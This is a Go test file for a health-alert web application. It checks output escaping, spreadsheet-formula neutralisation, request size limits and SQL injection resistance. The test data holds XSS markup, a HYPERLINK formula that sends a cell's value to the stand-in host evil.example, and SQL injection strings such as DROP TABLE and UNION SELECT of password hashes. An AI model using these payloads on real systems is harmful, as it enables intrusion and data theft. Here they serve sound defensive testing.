package web

import (
	"bufio"
	"encoding/json"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

// Department values that try to be markup or formulas.
const (
	hostileHTML    = `<script>alert("x")</script><img src=x onerror=alert(1)>第一医院`
	hostileFormula = `=HYPERLINK("http://evil.example/?"&A1,"点击查看")`
)

// TestHostileDepartmentValues: a hospital name holding a script and a
// diagnosis name holding a formula, in a record that is an alert's
// evidence, and a date holding a formula, in a row quarantined, are shown
// as text on every page and written as text, never as a formula, in every
// workbook.
func TestHostileDepartmentValues(t *testing.T) {
	s := newSite(t)
	db := s.chain.DB
	var alertID int64
	var recordID string
	if err := db.QueryRow(`SELECT e.alert_id, e.record_id FROM alert_evidence e JOIN alerts a USING (alert_id)
		WHERE e.source = 'health' AND a.status = 'new' ORDER BY a.alert_id LIMIT 1`).Scan(&alertID, &recordID); err != nil {
		t.Fatalf("no alert with health evidence: %v", err)
	}
	// The department sends that record again, its texts hostile.
	rec := healthRecord(t, s.chain.Cfg.Processed, recordID)
	rec["医疗机构"], rec["诊断名称"] = hostileHTML, hostileFormula
	b, _ := json.Marshal(rec)
	inbox := s.chain.Cfg.Inbox
	os.WriteFile(filepath.Join(inbox, "health", "again.jsonl"), append(b, '\n'), 0o644)
	os.WriteFile(filepath.Join(inbox, "medins", "formula-date.csv"),
		[]byte("结算编号,身份证号,结算日期,个人自付\nF1,11010519491231002X,\"=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\",1200\n"), 0o644)
	if _, err := s.chain.Run(t.Context(), "test", time.Date(2026, 6, 30, 0, 0, 0, 0, time.UTC)); err != nil {
		t.Fatal(err)
	}
	var stored string
	db.QueryRow(`SELECT hospital FROM health WHERE record_id = ?`, recordID).Scan(&stored)
	if stored != hostileHTML {
		t.Fatalf("the hostile record was not stored as sent: hospital %q", stored)
	}

	admin := s.login(t, "admin")
	pages := map[string]string{
		"alert":      "/alerts/" + itoa(alertID),
		"inbox":      "/alerts?status=new",
		"deliveries": "/deliveries",
		"audit":      "/audit",
	}
	for name, path := range pages {
		code, body := get(t, admin, s.srv.URL+path)
		if code != 200 {
			t.Fatalf("%s: %d", name, code)
		}
		for _, raw := range []string{"<script>alert", "<img src=x"} {
			if strings.Contains(body, raw) {
				t.Errorf("%s shows department markup unescaped: %q", name, raw)
			}
		}
	}
	_, page := get(t, admin, s.srv.URL+pages["alert"])
	if !strings.Contains(page, "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;") || !strings.Contains(page, "=HYPERLINK(") {
		t.Errorf("the alert page does not show the hostile values as text")
	}
	_, page = get(t, admin, s.srv.URL+pages["deliveries"])
	if !strings.Contains(page, "formula-date.csv") {
		t.Errorf("the quarantined delivery is not on the deliveries page")
	}

	var batch string
	db.QueryRow(`SELECT max(batch_id) FROM ingest_quarantine WHERE file_name LIKE '%formula-date.csv'`).Scan(&batch)
	books := map[string]string{
		"alerts export":       "/alerts.xlsx?status=new",
		"audit export":        "/audit.xlsx",
		"department workbook": "/deliveries/quarantine.xlsx?batch=" + batch,
	}
	found := map[string]bool{}
	for name, path := range books {
		code, book := get(t, admin, s.srv.URL+path)
		if code != 200 {
			t.Fatalf("%s: %d", name, code)
		}
		for _, v := range textCells(t, name, book) {
			if strings.Contains(v, "=HYPERLINK(") {
				found[name] = true
			}
		}
	}
	if !found["department workbook"] {
		t.Error("the department's workbook lost the value it must fix")
	}
}

// textCells opens a workbook, fails on any formula cell, and returns every
// cell's text.
func textCells(t *testing.T, name, book string) []string {
	t.Helper()
	f, err := excelize.OpenReader(strings.NewReader(book))
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	var out []string
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
					t.Errorf("%s: %s!%s is the formula %q", name, sheet, cell, formula)
				}
				out = append(out, v)
			}
		}
	}
	return out
}

// healthRecord finds a health record as the department sent it, in the
// processed folder.
func healthRecord(t *testing.T, processed, recordID string) map[string]any {
	t.Helper()
	files, _ := filepath.Glob(filepath.Join(processed, "health", "*", "*.jsonl"))
	more, _ := filepath.Glob(filepath.Join(processed, "health", "*.jsonl"))
	for _, file := range append(files, more...) {
		f, err := os.Open(file)
		if err != nil {
			t.Fatal(err)
		}
		sc := bufio.NewScanner(f)
		sc.Buffer(nil, 1<<20)
		for sc.Scan() {
			var rec map[string]any
			if json.Unmarshal(sc.Bytes(), &rec) == nil && rec["病案号"] == recordID {
				f.Close()
				return rec
			}
		}
		f.Close()
	}
	t.Fatalf("health record %s not in %s", recordID, processed)
	return nil
}

// TestBodiesAreBounded: a form larger than a page takes is refused with
// 413 and a page saying so, before anything reads it whole; the task
// sheet's upload has its own, larger bound.
func TestBodiesAreBounded(t *testing.T) {
	s := newSite(t)
	op := s.login(t, "op-yuhang")
	_, page := get(t, op, s.srv.URL+"/alerts?status=new")
	token := csrf(t, page)
	resp, body := postForm(t, op, s.srv.URL+"/alerts/act", url.Values{"csrf": {token}, "action": {"dismiss"}, "note": {strings.Repeat("长", 1<<20)}})
	if resp.StatusCode != http.StatusRequestEntityTooLarge || !strings.Contains(string(body), "超过本页面允许的大小") {
		t.Errorf("a 3 MB form: %d", resp.StatusCode)
	}
	var n int
	s.chain.DB.QueryRow(`SELECT count(*) FROM alerts WHERE status = 'dismissed'`).Scan(&n)
	if n != 0 {
		t.Errorf("%d alerts dismissed by a refused form", n)
	}
	// The same form at its normal size still works (the bound is not too tight).
	resp, _ = postForm(t, op, s.srv.URL+"/alerts/act", url.Values{"csrf": {token}, "action": {"dismiss"}, "note": {"搬走了"}})
	if resp.StatusCode == http.StatusRequestEntityTooLarge {
		t.Error("a small form was refused as too large")
	}
}

// TestFiltersCannotChangeSQL: SQL in every filter of the inbox, the export,
// the API and the audit log is a value to compare, or refused as one that
// is not allowed; never a change to the query, never a 500.
func TestFiltersCannotChangeSQL(t *testing.T) {
	s := newSite(t)
	admin := s.login(t, "admin")
	var before int
	s.chain.DB.QueryRow(`SELECT count(*) FROM alerts`).Scan(&before)
	payloads := []string{`' OR '1'='1`, `x'; DROP TABLE alerts; --`, `330110%' OR 1=1 --`, `") UNION SELECT password_hash FROM users --`, `*/ OR /*`}
	paths := []string{"/alerts", "/alerts.xlsx", "/api/alerts", "/audit"}
	params := map[string][]string{
		"/alerts": {"rule", "severity", "status", "region", "due", "queue"}, "/alerts.xlsx": {"rule", "status", "region"},
		"/api/alerts": {"rule", "status", "region"}, "/audit": {"user", "action", "subject", "from", "to"},
	}
	for _, path := range paths {
		for _, p := range params[path] {
			for _, v := range payloads {
				code, body := get(t, admin, s.srv.URL+path+"?"+url.Values{p: {v}}.Encode())
				if code != 200 && code != 400 {
					t.Errorf("%s?%s=%q: %d", path, p, v, code)
				}
				if strings.Contains(body, "$2a$") || strings.Contains(body, "$2b$") {
					t.Errorf("%s?%s=%q shows a password hash", path, p, v)
				}
			}
		}
	}
	// A rule no alert has shows no alert, whatever it holds.
	_, body := get(t, admin, s.srv.URL+"/api/alerts?"+url.Values{"rule": {`' OR '1'='1`}, "status": {""}}.Encode())
	if strings.Contains(body, `"alert_id"`) {
		t.Errorf("an injected rule listed alerts: %.200s", body)
	}
	var after int
	s.chain.DB.QueryRow(`SELECT count(*) FROM alerts`).Scan(&after)
	if after != before {
		t.Errorf("alerts: %d after, %d before", after, before)
	}
}
